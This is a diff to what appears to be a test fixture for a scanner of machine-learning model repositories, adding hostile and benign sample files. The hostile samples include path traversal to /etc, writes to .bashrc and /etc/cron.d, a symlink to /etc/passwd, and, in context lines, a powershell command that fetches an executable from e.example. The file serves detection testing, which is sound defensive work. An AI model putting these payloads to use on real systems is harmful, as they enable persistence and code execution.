@@ -35,6 +35,7 @@ HOSTILE = {
         json.dumps({"a": {"py/repr": "os/os.getcwd()"}}),
     ),
     "adapter_config.json": (json.dumps({"peft_type": "LORA", "megatron_core": "mine.core"}),),
+    "Manifest.json": (json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"path": "../../etc/x"}}}),),
     "modules.json": (json.dumps([{"type": "mine.Transformer", "path": ""}]),),
     "model_index.json": (json.dumps({"_class_name": "P", "_diffusers_version": "1", "unet": ["mine", "U"]}),),
     "model.safetensors.index.json": (json.dumps({"weight_map": {"a": "../../x.bin"}}),),
@@ -64,6 +65,10 @@ HOSTILE = {
         "import pandas\npandas.eval('@x.y()')\n",
         "import operator, os\noperator.attrgetter('system')(os)('id')\n",
         "import os\nlist(map(os.system, ['id']))\n",
+        "from os import mkfifo as m\nm('/tmp/x')\n",
+        "import shutil\nclass A:\n    shutil.copyfile('a', '/home/me/.bashrc')\n",
+        "import pathlib\npathlib.Path('/etc/cron.d/x').write_text('id')\n",
+        "from pathlib import Path\nplace = Path('x')\nplace.symlink_to('/etc/passwd')\n",
     ),
     "custom_generate/generate.py": ("def generate(model, **kept):\n    return model\n",),
     "pytorch.bin": ("@echo off\r\npowershell -c iwr http://e.example/x -o x.exe\r\n",),
@@ -91,6 +96,11 @@ HONEST = {
     "requirements.txt": ("torch>=2\nnumpy==1.26 ; python_version >= '3.9'\ntransformers[torch]~=4.0  # pinned\n",),
     "data": (json.dumps({"lr": {":serialized:": base64.b64encode(pickle.dumps([0.5])).decode()}}),),
     "adapter_config.json": (json.dumps({"peft_type": "LORA", "megatron_core": "megatron.core"}),),
+    "Manifest.json": (
+        json.dumps(
+            {"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"path": "com.apple.CoreML/model.mlmodel"}}}
+        ),
+    ),
     "conf.yaml": (
         "model:\n  _target_: torch.nn.Linear\n  in_features: 3\n",
         "model:\n  _target_: timm.create_model\n  model_name: resnet18\ndata: ${oc.env:HOME}/data\n",
@@ -102,6 +112,9 @@ HONEST = {
         "class A:\n    def __init_subclass__(cls):\n        cls.name = cls.__name__\n",
         "from .barcode import Decoder\ndef f(x):\n    return isinstance(x, Decoder)\n",
         "from .code import Decoder\ndef f(x):\n    return isinstance(x, Decoder)\n",
+        "import shutil\ndef save(place):\n    shutil.copyfile('a', place)\n",
+        "import shutil\nif __name__ == '__main__':\n    shutil.copyfile('a', 'b')\n",
+        "from pathlib import Path\nHERE = Path(__file__)\nTEXT = Path('README.md').read_text()\nROOT = HERE.parent\n",
         "import re\nimport torch\nWORD = re.compile(r'[a-z]+')\nstep = torch.compile(torch.nn.functional.relu)\n",
     ),
     "net.pmml": ('<PMML version="4.4"><Header><Extension name="a" value="b"/></Header></PMML>',),
